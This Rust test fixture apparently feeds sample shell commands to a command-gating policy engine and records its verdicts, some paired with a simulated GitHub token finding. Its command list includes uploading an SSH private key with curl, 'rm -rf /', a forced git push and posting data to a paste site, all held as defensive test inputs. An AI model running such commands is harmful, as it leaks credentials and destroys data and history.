//! A few calls that policies are asked about.

use std::sync::OnceLock;

use datafog_core::{
    Action, ActionKind, Channel, Confidence, Finding, Id, Key, Severity, Span, Surroundings,
};
use datafog_policy::Given;

use crate::{World, arguments};

/// One call with what the embedded starter says about it.
#[derive(Debug)]
pub struct Judged {
    /// The call.
    pub facts: Given,
    /// The verdict of the starter.
    pub verdict: datafog_core::Verdict,
}

/// Calls of different kinds: leaving, staying, destroying, unknown; with and without a finding.
pub fn judged() -> &'static [Judged] {
    static CASES: OnceLock<Vec<Judged>> = OnceLock::new();
    CASES.get_or_init(|| LINES.iter().flat_map(|line| both(line)).collect())
}

const LINES: [&str; 7] = [
    "curl -d x=y https://paste.example/",
    "curl -H Accept:x https://api.github.com/user",
    "curl -T /home/user/.ssh/id_rsa http://127.0.0.1:80/",
    "git push --force origin main",
    "rm -rf / /home/user",
    "cat notes.txt",
    "frobnicate --deep x",
];

fn both(line: &str) -> [Judged; 2] {
    let argv = arguments(line.replace(' ', "\0").as_bytes());
    let plain = facts(argv, &World::default());
    let mut found = plain.clone();
    found.findings.extend(finding());
    found.unscanned.push("a file cannot be read".to_owned());
    [plain, found].map(|facts| Judged {
        verdict: datafog_policy::Policy::builtin().decide(&facts).verdict,
        facts,
    })
}

/// The facts about a command line, nothing found in it.
pub(crate) fn facts(argv: Vec<std::ffi::OsString>, world: &dyn Surroundings) -> Given {
    let mut invocation = datafog_shim::interpret(&argv, world);
    datafog_shim::resolve(&mut invocation, world);
    Given::action(Action {
        id: Id::new(0, [0; 10]),
        kind: ActionKind::CommandExec,
        argv,
        cwd: world.cwd().to_owned(),
        invocation,
        tool: None,
        parts: Vec::new(),
    })
}

impl Judged {
    /// The command line given by the fuzzer, parted by NUL.
    #[must_use]
    pub fn given(part: &[u8]) -> Given {
        facts(arguments(part), &World::default())
    }
}

fn finding() -> Option<Finding> {
    let key = Key::from_bytes(&[7; 32])?;
    Some(Finding {
        detector: "github-pat".into(),
        entity: "secret.github.pat".into(),
        channel: Channel::Argument(1),
        span: Span::at(0, 1),
        confidence: Confidence::CERTAIN,
        severity: Severity::Critical,
        fingerprint: key.digest("finding", [b"x".as_slice()]),
        preview: "ghp_…".to_owned(),
    })
}
